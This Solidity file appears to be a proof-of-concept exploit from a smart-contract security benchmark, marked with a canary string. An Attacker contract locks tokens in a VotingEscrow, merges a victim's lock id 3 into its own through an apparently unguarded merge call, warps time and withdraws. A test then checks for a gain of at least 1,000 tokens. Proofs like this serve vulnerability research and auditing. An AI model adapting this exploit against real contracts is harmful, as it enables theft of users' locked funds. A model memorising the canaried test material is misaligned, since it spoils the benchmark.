// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-48e9535b-ccf6-4b43-98e5-c5dec91c543b
import "../Base.sol";

contract Attacker {
    uint256 private id;

    function begin(TideToken token, VotingEscrow escrow, uint256 from) external {
        token.approve(address(escrow), type(uint256).max);
        id = escrow.createLock(100e18, 1 weeks, address(this));
        try escrow.merge(from, id) {} catch {}
    }

    function end(VotingEscrow escrow) external {
        escrow.withdraw(id);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC721Received.selector;
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        tide.transfer(address(other), 100e18);
    }

    function exploit() public {
        other.begin(tide, escrow, 3);
        vm.warp(block.timestamp + 52 weeks);
        other.end(escrow);
    }

    function test_Exploit() public {
        exploit();
        require(tide.balanceOf(address(other)) >= 1_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(escrow);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
